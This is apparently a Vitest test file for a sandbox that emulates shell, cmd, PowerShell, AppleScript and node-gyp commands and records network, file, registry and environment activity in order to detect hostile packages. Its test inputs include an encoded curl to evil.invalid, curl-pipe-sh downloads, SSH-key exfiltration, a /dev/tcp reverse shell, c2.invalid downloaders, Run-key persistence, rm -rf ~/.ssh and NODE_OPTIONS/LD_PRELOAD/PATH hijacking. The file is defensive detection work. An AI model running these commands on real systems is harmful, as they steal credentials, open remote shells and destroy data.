import { describe, expect, test } from "vitest";

import { runGuest } from "../../test/run-guest.ts";
import type { GuestResult } from "../../test/run-guest.ts";
import type { Observation } from "../observation.ts";
import { createWorld } from "../worlds/worlds.ts";
import type { WorldName } from "../worlds/worlds.ts";

async function execute(command: string, world: WorldName = "linux-laptop"): Promise<GuestResult> {
  return await runGuest(
    `require("child_process").exec(${JSON.stringify(command)}, (error, stdout) => console.log((error ? "failed " : "") + stdout.trim()));`,
    {
      world: createWorld(world, Date.UTC(2026, 10, 17, 9)),
      files: { "other.js": "require('fs').writeFileSync('/tmp/made', process.argv[2] ?? '');" },
    },
  );
}

function lines(observations: readonly Observation[], kind: Observation["kind"]): readonly string[] {
  return observations
    .filter((observation) => observation.kind === kind)
    .map(({ data }) => String(data["url"] ?? data["command"] ?? data["path"] ?? data["text"]));
}

describe("runCommand in a shell", () => {
  test.each([
    ["echo one two | tr a-z A-Z", "ONE TWO"],
    ["A=x; B=${A}y; echo $B ${C:-z}", "xy z"],
    ["echo $(echo inner) `echo old`", "inner old"],
    ["false || echo else; true && echo then", "else\nthen"],
    ["for f in a b; do echo $f; done", "a\nb"],
    ["if [ -f package.json ]; then echo yes; else echo no; fi", "yes"],
    ["if [ -f nothing ]; then echo yes; elif [ -d . ]; then echo folder; fi", "folder"],
    ["echo aGVsbG8= | base64 -d", "hello"],
    ["printf '%s-%s' a b", "a-b"],
    ["f() { echo got $1; }; f it", "got it"],
    ["echo text > /tmp/t && cat /tmp/t", "text"],
    ["cat <<EOF\nfrom $USER\nEOF", "from lena"],
    ["cd /tmp && pwd", "/tmp"],
    ["echo 'a;b' \"c & d\"", "a;b c & d"],
    ["$'\\x65\\x63ho' hidden", "hidden"],
    ["echo abc | rev", "cba"],
    [
      "case $(uname -s) in Darwin) echo mac;; Linux|Free*) echo lin; echo ux;; *) echo other;; esac; echo end",
      "lin\nux\nend",
    ],
    ["a=ec; b=ho; $a$b${IFS}joined${IFS}words", "joined words"],
    ["case x in\n  [a-c]*) echo no ;;\n  *)\n    echo yes\n    ;;\nesac", "yes"],
    ["date -u +%F_%H:%M_%u%%", "2026-11-17_09:00_2%%"],
    ["date +%H", "10"],
    ["(cd /; pwd); whoami", "/\nlena"],
  ])("runCommand follows %s", async (command, printed) => {
    const result = await execute(command);

    expect(result.printed.join("\n")).toBe(printed);
  });

  test("runCommand starts scripts of Node in the emulator, with their words", async () => {
    const { run, printed } = await execute("node other.js given && cat /tmp/made");

    expect(printed).toEqual(["given"]);
    expect(Buffer.from(run.disk.read("/tmp/made")).toString()).toBe("given");
  });

  test("runCommand tells what hidden commands come to, at the place that started them", async () => {
    const { observations } = await execute(
      'sh -c "$(echo Y3VybCBodHRwOi8vZXZpbC5pbnZhbGlkL3g= | base64 -d)"',
    );

    const request = observations.find(({ kind }) => kind === "network");
    expect(request).toMatchObject({ api: "curl", decoded: true, data: { url: "http://evil.invalid/x" } });
    expect(request?.location?.file).toBe("install.js");
  });

  test("runCommand knows a download that is run, piped or as a file", async () => {
    const piped = await execute("curl -s https://get.example/i.sh | sh");
    const saved = await execute(
      "curl -so /tmp/.x https://get.example/x && chmod +x /tmp/.x && nohup /tmp/.x &",
    );

    for (const { observations } of [piped, saved]) {
      expect(
        observations.filter(({ kind, honey }) => kind === "code" && honey.includes("download")),
      ).toHaveLength(1);
    }
  });

  test("runCommand sees secrets leave by a program", async () => {
    const { observations } = await execute("curl -d @$HOME/.ssh/id_rsa https://drop.invalid/");

    expect(observations.find(({ kind }) => kind === "network")?.honey).toContain("ssh-key");
  });

  test("runCommand tells of a shell that is tied to a socket", async () => {
    const { observations } = await execute("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");

    expect(observations.find(({ kind }) => kind === "network")?.data).toMatchObject({ host: "203.0.113.9" });
  });

  test("runCommand says what is not there as a shell does", async () => {
    const { printed } = await execute("no-such-program-here");

    expect(printed).toEqual(["failed "]);
  });

  test("runCommand removes what is removed", async () => {
    const { run, observations } = await execute("rm -rf ~/.ssh; rm -f install.js");

    expect(run.disk.find("/home/lena/.ssh")).toBeUndefined();
    expect(lines(observations, "file")).toContain("/home/lena/.ssh");
  });
});

describe("runCommand of what builds native code", () => {
  test("runCommand runs the commands that reading a description runs, and those of its actions", async () => {
    const gyp = `{ "targets": [{ "sources": ["<!(node other.js read > /dev/null; echo a.c)"], # a comment
      "actions": [{ "action": ["node", "other.js", "acted"] }] }] }`;

    const { observations } = await runGuest('require("child_process").execSync("node-gyp rebuild");', {
      files: { "binding.gyp": gyp, "other.js": "require('fs').writeFileSync('/tmp/made', process.argv[2]);" },
    });

    const written = observations.filter(({ api }) => api === "fs.writeFile");
    expect(written.map(({ data }) => data["content"])).toEqual(["read", "acted"]);
  });

  test("runCommand fails to build where nothing is described", async () => {
    const { printed } = await execute("node-gyp rebuild");

    expect(printed).toEqual(["failed "]);
  });
});

describe("runCommand on Windows", () => {
  test("runCommand finds a batch file of the folder by its name", async () => {
    const { observations } = await runGuest(
      'require("child_process").spawn("cmd.exe", ["/c", "setup.bat"]);',
      {
        files: { "setup.bat": "@echo off\r\ncertutil -urlcache -f https://c2.invalid/w %TEMP%\\w.exe\r\n" },
        world: createWorld("win32-laptop", 0),
      },
    );

    expect(lines(observations, "network")).toEqual(["https://c2.invalid/w"]);
  });

  test("runCommand follows a line of cmd", async () => {
    const { observations } = await execute(
      'cmd /c "set A=po&& start /b %SystemRoot%\\x.exe & curl -o %TEMP%\\a.ps1 https://c2.invalid/a"',
      "win32-laptop",
    );

    expect(lines(observations, "network")).toEqual(["https://c2.invalid/a"]);
    expect(observations.find(({ kind }) => kind === "network")?.data["to"]).toBe(
      "C:\\Users\\lena\\AppData\\Local\\Temp\\a.ps1",
    );
  });

  test("runCommand reads PowerShell behind its encoding", async () => {
    const script = "Invoke-WebRequest -Uri https://c2.invalid/p -OutFile $env:TEMP\\p.exe";
    const encoded = Buffer.from(script, "utf16le").toString("base64");

    const { observations } = await execute(`powershell -w hidden -enc ${encoded}`, "win32-laptop");

    expect(lines(observations, "code")).toContain(script);
    expect(lines(observations, "network").join(" ")).toContain("https://c2.invalid/p");
  });

  test("runCommand tells of what is written to the registry", async () => {
    const { observations } = await execute(
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d "C:\\x.exe" /f',
      "win32-laptop",
    );

    expect(observations.find(({ kind }) => kind === "winreg")?.data).toMatchObject({
      name: "Updater",
      value: "C:\\x.exe",
    });
  });

  test("runCommand follows a script of the Windows host", async () => {
    const { observations } = await runGuest(
      `const fs = require("fs"), path = process.env.TEMP + "\\\\r.vbs";
       fs.writeFileSync(path, 'CreateObject("WScript.Shell").Run "cmd /c curl https://c2.invalid/v", 0');
       require("child_process").execSync("cscript //nologo " + path);`,
      { world: createWorld("win32-laptop", 0) },
    );

    expect(lines(observations, "network")).toEqual(["https://c2.invalid/v"]);
  });
});

describe("runCommand on macOS", () => {
  test("runCommand follows what AppleScript hands to a shell", async () => {
    const { observations } = await execute(
      `osascript -e 'set u to "https://c2.invalid/m"' -e 'do shell script "curl -o /tmp/m " & u'`,
      "darwin-laptop",
    );

    expect(lines(observations, "network")).toEqual(["https://c2.invalid/m"]);
  });
});

describe("runCommand with variables", () => {
  test.each([
    ["NODE_OPTIONS='--require /tmp/a.js' npm run build", "NODE_OPTIONS=--require /tmp/a.js"],
    ["export LD_PRELOAD=/tmp/a.so; ls", "LD_PRELOAD=/tmp/a.so"],
    [
      "env npm_config_registry=https://packages.invalid npm install",
      "npm_config_registry=https://packages.invalid",
    ],
  ])("runCommand tells what others are made to load: %s", async (command, told) => {
    const { observations } = await execute(command);

    expect(planted(observations)).toContain(told);
  });

  test.each([
    "NODE_OPTIONS=--max-old-space-size=4096 node other.js",
    "CC=clang FOO=1 make",
    "NODE_ENV=production ls",
  ])("runCommand has nothing to tell of %s", async (command) => {
    const { observations } = await execute(command);

    expect(planted(observations)).toEqual([]);
  });

  test("runCommand runs what variables have programs load, and programs that come first on the path", async () => {
    const { printed } = await execute(
      [
        "echo 'console.log(\"loaded\")' > /tmp/a.js",
        "NODE_OPTIONS='--require /tmp/a.js' node -e 0",
        "echo 'echo sourced' > /tmp/rc; BASH_ENV=/tmp/rc bash -c 'echo then'",
        "mkdir -p /tmp/bin; printf '#!/bin/sh\\necho planted' > /tmp/bin/git; PATH=/tmp/bin:$PATH git status",
      ].join("; "),
    );

    expect(printed.join("\n").split("\n")).toEqual(["loaded", "then", "planted"]);
  });
});

function planted(observations: readonly Observation[]): readonly string[] {
  return observations
    .filter(({ api }) => api === "environment")
    .map(({ data }) => `${String(data["name"])}=${String(data["value"])}`);
}

test("runCommand changes files in place as sed does", async () => {
  const { printed, observations } = await execute(
    "cd /tmp && echo 'a/b one' > t && sed -i 's/a\\/b/c/' t && sed -i -e s:one:two:g t && cat t",
  );

  expect(printed).toEqual(["c two"]);
  expect(observations.filter(({ api }) => api === "sed -i").map(({ data }) => data["path"])).toEqual([
    "/tmp/t",
    "/tmp/t",
  ]);
});

test("runCommand changes manifests as npm pkg does", async () => {
  const { printed, observations } = await execute(
    "cd /home/lena/code/ledger-web && npm pkg set scripts.prestart='node x.js' && cat package.json",
  );
  const seen = observations.find(({ api }) => api === "npm pkg");

  expect(JSON.parse(printed.join("\n"))).toMatchObject({ scripts: { prestart: "node x.js" } });
  expect(seen?.data["isRewired"]).toBe(true);
});
